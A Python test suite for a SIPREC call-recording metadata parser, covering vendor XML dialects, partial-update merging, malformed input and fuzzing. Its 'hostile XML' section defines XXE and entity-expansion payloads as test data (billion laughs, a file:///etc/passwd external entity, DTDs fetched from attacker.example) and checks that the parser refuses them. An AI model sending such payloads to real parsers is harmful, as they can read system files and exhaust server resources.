"""Recording metadata: every vendor dialect, partial updates, and hostile XML."""

from pathlib import Path

import attrs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from siprecd.siprec.metadata import (
    MediaStream,
    MetadataError,
    Participant,
    RecordingMetadata,
    merge_metadata,
    parse_metadata,
)

FIXTURES = Path(__file__).parent / "fixtures" / "siprec"


def fixture(name):
    return (FIXTURES / name).read_bytes()


def parse(name):
    return parse_metadata(fixture(name))


# -- RFC 7865 ---------------------------------------------------------------------


def test_rfc7865_full():
    md = parse("rfc7865_full.xml")
    assert md.dialect == "rfc7865"
    assert md.data_mode == "complete"
    assert md.group_ids == ("7+OTCyoxTmqmqyA/1weDAg==",)
    assert md.session_ids == ("hVpd7YQgRW2nD22h7q60JQ==",)
    assert md.sip_session_ids == (
        "9a41b0e2c3d44f5e8a7b6c5d4e3f2a1b;remote=0f1e2d3c4b5a69788796a5b4c3d2e1f0",
    )
    assert md.participants == (
        Participant(
            id="srfBElmCRp2QB23b7Mpk0w==",
            aors=("sip:+15551230001@carrier.example.net",),
            name="Pat Caller",
            sends=("UAAMm5GRQKSCMVvLyl4rFw==",),
            receives=("i1Pz3to5hGk8fuXl+PbwCw==",),
        ),
        Participant(
            id="zSfPoSvdSDCmU3A3TRDxAw==",
            aors=("sip:agent2001@cc.example.com", "tel:+15559872001"),
            name="Agent 2001",
            sends=("i1Pz3to5hGk8fuXl+PbwCw==",),
            receives=("UAAMm5GRQKSCMVvLyl4rFw==",),
        ),
    )
    assert md.streams == (
        MediaStream("UAAMm5GRQKSCMVvLyl4rFw==", "96", "hVpd7YQgRW2nD22h7q60JQ=="),
        MediaStream("i1Pz3to5hGk8fuXl+PbwCw==", "97", "hVpd7YQgRW2nD22h7q60JQ=="),
    )
    assert md.extensions == {}
    assert (md.ucid, md.avaya_ucid, md.genesys_uuid) == (None, None, None)


def test_label_lookups():
    md = parse("rfc7865_full.xml")
    assert md.participant_for_label("96").name == "Pat Caller"
    assert md.participant_for_label("97").name == "Agent 2001"
    assert md.participant_for_label("98") is None
    assert {k: p.name for k, p in md.label_to_participant().items()} == {
        "96": "Pat Caller", "97": "Agent 2001"
    }
    assert md.streams_for_label("97") == (md.streams[1],)


def test_labels_follow_the_metadata_not_the_participant_order():
    """Avaya SBCE lists the agent first: nothing may assume the caller is first."""
    md = parse("avaya_sbce.xml")
    assert md.participants[0].name == "Station 5501"
    assert md.participant_for_label("1").name == "Station 5501"
    assert md.participant_for_label("2").name == "WIRELESS CALLER"
    assert md.sip_session_ids == ("41c2f3e4a5b6478899aabbccddeeff00",)


def test_cisco_cube():
    md = parse("cisco_cube.xml")
    assert md.dialect == "rfc7865"
    assert md.sip_session_ids == (
        "e2c4f6a8b0d24e6f8a0c2e4f6a8b0d2e;remote=00000000000000000000000000000000",
    )
    assert md.participants[0].aors == ("sip:+14085550123@192.0.2.101",)
    assert md.participants[0].name is None
    assert {k: p.aors[0] for k, p in md.label_to_participant().items()} == {
        "1": "sip:+14085550123@192.0.2.101", "2": "sip:6001@192.0.2.102"
    }


# -- Oracle / Acme Packet draft dialect ------------------------------------------------


def test_oracle_draft_namespace_and_attributes():
    md = parse("oracle_draft.xml")
    assert md.dialect == "draft"
    assert md.data_mode == "complete"
    assert md.session_ids == ("Qm9yYWNsZVNlc3Npb24xMjM0NQ==",)
    assert md.sip_session_ids == ()
    caller, agent = md.participants
    assert caller.id == "Y2FsbGVyUGFydGljaXBhbnQ9PQ=="
    assert caller.sends == ("c3RyZWFtQ2FsbGVyMDAwMQ==",)
    assert caller.receives == ("c3RyZWFtQWdlbnQwMDAwMg==",)
    assert agent.aors == ("sip:4410@198.51.100.40",)
    assert md.streams[0] == MediaStream(
        "c3RyZWFtQ2FsbGVyMDAwMQ==", "1", "Qm9yYWNsZVNlc3Npb24xMjM0NQ=="
    )
    assert md.participant_for_label("2") == agent


def test_oracle_extension_data():
    md = parse("oracle_draft.xml")
    assert md.ucid == "00FA08000A7B2C65F1E2A0;encoding=hex"
    assert md.extensions == {
        "apkt:ucid": "00FA08000A7B2C65F1E2A0;encoding=hex",
        "apkt:callerOrig": "true",
        "apkt:callingParty": "true",
        "apkt:request-uri": "sip:8005550100@192.0.2.1:5060",
        "apkt:in-realm": "carrier-core",
        "apkt:header[P-Asserted-Identity].value": "<sip:+15550100777@192.0.2.20>",
        "apkt:callingParty#2": "false",
    }


def test_oracle_legacy_aor_and_name_elements():
    md = parse("oracle_draft_legacy.xml")
    assert md.dialect == "draft"
    assert md.data_mode == "complete"  # spelled dataMode here
    alice, sales = md.participants
    assert (alice.aors, alice.name) == (("sip:alice@192.0.2.55",), "alice")
    assert (sales.aors, sales.name, sales.sends) == (("sip:queue-sales@198.51.100.9",), "sales", ())
    assert md.participant_for_label("1") == alice


# -- prefixed and unqualified namespaces ----------------------------------------------


def test_ribbon_prefixed_namespace_and_call_data():
    md = parse("ribbon_tns.xml")
    assert md.dialect == "rfc7865"
    assert md.session_ids == ("cmliYm9uU2Vzc2lvbjAwMDE=",)
    assert md.extensions == {
        "callData.gcid": "1285430",
        "callData.callid": "7f3c2a1b-ribbon@192.0.2.70",
        "callData.fromhdr": "<sip:+15557654321@carrier.example.net>;tag=a1b2c3",
        "callData.tohdr": "<sip:+18005550199@sbc.example.com>",
        "callData.ucid": "00002254461707910400",
    }
    assert md.ucid == "00002254461707910400"
    assert md.participant_for_label("2").aors == ("sip:+18005550199@sbc.example.com",)


def test_call_data_outside_extensiondata():
    md = parse_metadata(
        b'<tns:recording xmlns:tns="urn:ietf:params:xml:ns:recording">'
        b'<tns:session id="s"><tns:callData><tns:gcid>42</tns:gcid></tns:callData></tns:session>'
        b"</tns:recording>"
    )
    assert md.dialect == "draft"
    assert md.extensions == {"callData.gcid": "42"}


def test_unqualified_document():
    md = parse("unqualified.xml")
    assert md.dialect == "none"
    assert md.data_mode == "complete"
    assert {k: p.id for k, p in md.label_to_participant().items()} == {"10": "p-one", "11": "p-two"}


def test_other_namespace_is_reported_as_such():
    md = parse_metadata(b'<recording xmlns="urn:example:recording"><datamode>partial</datamode></recording>')
    assert (md.dialect, md.data_mode) == ("other", "partial")


def test_unknown_data_mode_is_none():
    assert parse_metadata(b"<recording><datamode>sometimes</datamode></recording>").data_mode is None


# -- AudioCodes and Genesys ----------------------------------------------------------------


def test_audiocodes_avaya_ucid():
    md = parse("audiocodes_avaya.xml")
    assert md.avaya_ucid == "FA0800110C3A6633B9C1"
    assert md.extensions == {"ac:AvayaUCID": "FA0800110C3A6633B9C1"}
    assert md.ucid is None
    assert md.group_ids == ("00000000-0000-0000-0000-00008b51a9c4",)
    assert md.participants[0].aors == ("5550142@192.0.2.81",)


def test_audiocodes_with_undeclared_prefix_is_still_read():
    assert parse("audiocodes_undeclared_prefix.xml") == parse("audiocodes_avaya.xml")


def test_genesys_uuid_from_audiocodes_extension():
    md = parse("genesys.xml")
    assert md.genesys_uuid == "02RK3B5PD8A0F9H1A2CC4TQ8MS00003N"
    assert md.extensions == {"ac:GenesysUUID": "02RK3B5PD8A0F9H1A2CC4TQ8MS00003N"}
    assert md.participant_for_label("2").name == "Jordan"


@pytest.mark.parametrize("name", sorted(p.name for p in FIXTURES.glob("*.xml")))
def test_every_fixture_parses(name):
    md = parse(name)
    assert isinstance(md, RecordingMetadata)
    assert md.data_mode in ("complete", "partial")


# -- partial updates and transfers ------------------------------------------------------------


def test_complete_replaces():
    first = parse("rfc7865_full.xml")
    second = parse("cisco_cube.xml")
    assert merge_metadata(first, second) is second
    assert merge_metadata(None, first) is first


def test_no_data_mode_replaces():
    first = parse("rfc7865_full.xml")
    bare = parse_metadata(b"<recording/>")
    assert merge_metadata(first, bare) is bare


def test_partial_update_changes_only_what_it_names():
    base = parse("rfc7865_full.xml")
    update = parse("partial_update.xml")
    assert update.data_mode == "partial"
    merged = merge_metadata(base, update)
    assert merged.data_mode == "complete"
    caller, agent = merged.participants
    assert caller.name == "Patricia Caller"
    assert caller.sends == base.participants[0].sends  # not cleared by the update
    assert agent == base.participants[1]
    assert merged.streams == base.streams
    assert merged.session_ids == base.session_ids
    assert merged.participant_for_label("96").name == "Patricia Caller"


def test_transfer_adds_a_participant_who_takes_over_the_stream():
    base = parse("rfc7865_full.xml")
    merged = merge_metadata(base, parse("transfer_add_participant.xml"))
    assert [p.name for p in merged.participants] == ["Pat Caller", "Agent 2001", "Supervisor 3100"]
    agent = merged.participants[1]
    assert agent.aors == base.participants[1].aors  # kept, not removed
    assert agent.sends == ()
    assert merged.participant_for_label("97").name == "Supervisor 3100"
    assert merged.participant_for_label("96").name == "Pat Caller"


def test_partial_update_adds_streams_and_extensions():
    base = parse("oracle_draft.xml")
    update = parse_metadata(
        b"<recording xmlns='urn:ietf:params:xml:ns:recording'><datamode>partial</datamode>"
        b"<participant id='new'><aor>sip:c@192.0.2.9</aor><send>s3</send></participant>"
        b"<stream id='s3' session='x'><label>3</label></stream>"
        b"<stream id='c3RyZWFtQ2FsbGVyMDAwMQ=='><label>1</label></stream>"
        b"<extensiondata xmlns:apkt='http://acmepacket.com/siprec/extensiondata'>"
        b"<apkt:callerOrig>false</apkt:callerOrig></extensiondata>"
        b"</recording>"
    )
    merged = merge_metadata(base, update)
    assert len(merged.participants) == 3
    assert merged.participant_for_label("3").aors == ("sip:c@192.0.2.9",)
    assert merged.streams[0].session_id == "Qm9yYWNsZVNlc3Npb24xMjM0NQ=="  # kept
    assert merged.extensions["apkt:callerOrig"] == "false"
    assert merged.ucid == base.ucid
    assert merged.dialect == "draft"


# -- tolerance -------------------------------------------------------------------------------


def test_text_trailing_the_root_element():
    md = parse_metadata(fixture("cisco_cube.xml") + b"\r\n\r\n--junk after the document <x>")
    assert md == parse("cisco_cube.xml")


def test_leading_blank_lines():
    assert parse_metadata(b"\r\n\r\n  " + fixture("rfc7865_full.xml")) == parse("rfc7865_full.xml")


def test_str_input():
    assert parse_metadata(fixture("unqualified.xml").decode()) == parse("unqualified.xml")


def test_undeclared_prefix_on_the_root():
    assert parse_metadata(b"<a:recording><a:datamode>complete</a:datamode></a:recording>").data_mode == "complete"


def test_recording_wrapped_in_another_element():
    md = parse_metadata(b'<envelope><recording><session session_id="w"/></recording></envelope>')
    assert md.session_ids == ("w",)


def test_participant_only_in_an_association_is_kept():
    md = parse_metadata(
        b"<recording><stream stream_id='s'><label>5</label></stream>"
        b"<participantstreamassoc participant_id='p'><send>s</send></participantstreamassoc>"
        b"</recording>"
    )
    assert md.participant_for_label("5") == Participant("p", sends=("s",))


def test_elements_without_ids_are_dropped():
    md = parse_metadata(b"<recording><participant><aor>sip:x@y</aor></participant><stream/></recording>")
    assert md.participants == () and md.streams == ()


def test_latin1_declared_encoding():
    md = parse_metadata(
        '<?xml version="1.0" encoding="ISO-8859-1"?><recording><participant participant_id="p">'
        "<nameID aor='sip:j@x'><name>Jos\u00e9</name></nameID></participant></recording>".encode("latin-1")
    )
    assert md.participants[0].name == "Jos\u00e9"


def test_repeated_extension_keys_are_numbered():
    md = parse_metadata(
        b"<recording><extensiondata><k>1</k><k>2</k><k>3</k><a><b/></a></extensiondata></recording>"
    )
    assert md.extensions == {"k": "1", "k#2": "2", "k#3": "3", "a.b": ""}


# -- hostile XML ---------------------------------------------------------------------------------


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<recording xmlns="urn:ietf:params:xml:ns:recording:1"><datamode>&lol4;</datamode></recording>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE recording [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<recording><session session_id="&xxe;"/></recording>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE recording SYSTEM "http://attacker.example/evil.dtd">
<recording/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE recording [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<recording/>"""

INTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE recording [<!ELEMENT recording ANY>]>
<recording/>"""

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"A" * 10000 + b'">]><recording>'
    + b"&a;" * 1000 + b"</recording>"
)


@pytest.mark.parametrize("xml", [
    BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, INTERNAL_DTD, QUADRATIC_BLOWUP,
], ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity",
        "internal-dtd", "quadratic-blowup"])
def test_hostile_xml_is_refused(xml):
    with pytest.raises(MetadataError):
        parse_metadata(xml)


def test_undefined_entity_is_refused():
    with pytest.raises(MetadataError):
        parse_metadata(b"<recording><datamode>&undefined;</datamode></recording>")


def nested(depth):
    return b"<recording>" + b"<a>" * (depth - 1) + b"</a>" * (depth - 1) + b"</recording>"


def test_depth_limit():
    assert parse_metadata(nested(32)).dialect == "none"
    with pytest.raises(MetadataError, match="deeper than 32"):
        parse_metadata(nested(33))
    with pytest.raises(MetadataError, match="deeper than 4"):
        parse_metadata(nested(5), max_depth=4)


def test_depth_bomb():
    bomb = b"<recording>" + b"<a>" * 80000  # within the size limit: depth must stop it
    assert len(bomb) < 262144
    with pytest.raises(MetadataError, match="deeper than 32"):
        parse_metadata(bomb)


def test_size_limit():
    doc = fixture("rfc7865_full.xml")
    assert parse_metadata(doc, max_bytes=len(doc)).session_ids
    with pytest.raises(MetadataError, match="larger than"):
        parse_metadata(doc, max_bytes=len(doc) - 1)
    with pytest.raises(MetadataError, match="larger than 262144"):
        parse_metadata(b"<recording>" + b" " * 262144 + b"</recording>")


@pytest.mark.parametrize("xml", [
    b"", b"   ", b"not xml", b"<recording>", b"<other/>", b"<recording><a></b></recording>",
    b"\xff\xfe\x00<", b"<?xml version='1.0' encoding='no-such-codec'?><recording/>",
])
def test_garbage_is_refused(xml):
    with pytest.raises(MetadataError):
        parse_metadata(xml)


def test_not_bytes_is_refused():
    with pytest.raises(MetadataError):
        parse_metadata(None)


# -- fuzzing ---------------------------------------------------------------------------------------


def _check(xml, **limits):
    try:
        md = parse_metadata(xml, **limits)
    except MetadataError:
        return
    assert isinstance(md, RecordingMetadata)
    md.label_to_participant()
    merge_metadata(md, attrs.evolve(md, data_mode="partial"))


@settings(max_examples=1000, deadline=None)
@given(st.binary(max_size=4096))
def test_fuzz_arbitrary_bytes(xml):
    _check(xml)


FIXTURE_BYTES = [fixture(p.name) for p in sorted(FIXTURES.glob("*.xml"))]


@settings(max_examples=1000, deadline=None)
@given(
    doc=st.sampled_from(FIXTURE_BYTES),
    cut=st.integers(0, 4096),
    length=st.integers(0, 64),
    insert=st.one_of(
        st.binary(max_size=64),
        st.sampled_from([b"<", b">", b"&", b"<!DOCTYPE x>", b"&lol;", b"<a:b>", b"]]>",
                         b"<![CDATA[", b"xmlns:x=''", b"\x00", b"</recording>"]),
    ),
)
def test_fuzz_mutated_fixtures(doc, cut, length, insert):
    cut = min(cut, len(doc))
    _check(doc[:cut] + insert + doc[cut + length:], max_depth=8)


@settings(max_examples=1000, deadline=None)
@given(st.recursive(
    st.sampled_from(["recording", "participant", "stream", "send", "nameID", "extensiondata",
                     "callData", "x:ucid", "label", "session", "datamode"]).map(lambda n: (n, [])),
    lambda children: st.tuples(
        st.sampled_from(["recording", "participant", "participantstreamassoc", "extensiondata",
                         "nameID", "session", "stream", "callData"]),
        st.lists(children, max_size=4),
    ),
    max_leaves=30,
))
def test_fuzz_structured_documents(tree):
    def render(node):
        name, kids = node
        attrs_ = b' id="i" participant_id="p" stream_id="s" aor="a" label="l"'
        inner = b"".join(render(k) for k in kids) or b"t"
        return b"<" + name.encode() + attrs_ + b">" + inner + b"</" + name.encode() + b">"

    _check(b'<recording xmlns:x="urn:x">' + render(tree) + b"</recording>")


# -- Cisco BroadWorks, and participants that leave ---------------------------------


def test_broadworks_dialect_gives_participants_streams_and_its_call_ids():
    from siprecd.simulator.samples import broadworks_tracking_id, sample_metadata

    meta = parse_metadata(sample_metadata("broadworks", call_key="bw-1"))
    assert meta.dialect == "broadworks" and meta.data_mode == "complete"
    assert meta.broadworks_tracking_id == broadworks_tracking_id("bw-1")
    assert meta.broadworks_call_id.startswith("callhalf-")
    caller, agent = meta.participants
    assert caller.aors == ("sip:+15551230001@carrier.example.net",) and caller.name == "Caller"
    assert meta.participant_for_label("1") == caller
    assert meta.participant_for_label("2") == agent
    assert meta.extensions["broadWorksRecordingMetadata.userID"] == "agent2001@cc.example.com"


def test_broadworks_ids_are_guid_candidates_in_the_configured_order():
    from siprecd.siprec.guid import choose_guid, find_identifiers
    from siprecd.simulator.samples import sample_metadata

    meta = parse_metadata(sample_metadata("broadworks", call_key="bw-2"))
    found = find_identifiers(None, meta, "c@h")
    assert [c.source for c in found] == ["broadworks-tracking-id", "broadworks-call-id",
                                         "metadata-session", "call-id"]
    assert choose_guid(found).source == "broadworks-tracking-id"
    assert choose_guid(found, ("broadworks-call-id", "call-id")).source == "broadworks-call-id"


def test_a_disassociated_participant_is_marked():
    xml = b"""<recording xmlns="urn:ietf:params:xml:ns:recording:1">
      <datamode>partial</datamode>
      <participant participant_id="p1"><nameID aor="sip:a@h"/></participant>
      <participantsessionassoc participant_id="p1" session_id="s1">
        <associate-time>2024-01-01T00:00:00Z</associate-time>
        <disassociate-time>2024-01-01T00:05:00Z</disassociate-time>
      </participantsessionassoc>
      <participantsessionassoc participant_id="p2" session_id="s1">
        <associate-time>2024-01-01T00:05:00Z</associate-time>
      </participantsessionassoc>
    </recording>"""
    meta = parse_metadata(xml)
    by_id = {p.id: p for p in meta.participants}
    assert by_id["p1"].disassociated is True and by_id["p1"].aors == ("sip:a@h",)
    assert "p2" not in by_id or by_id["p2"].disassociated is None
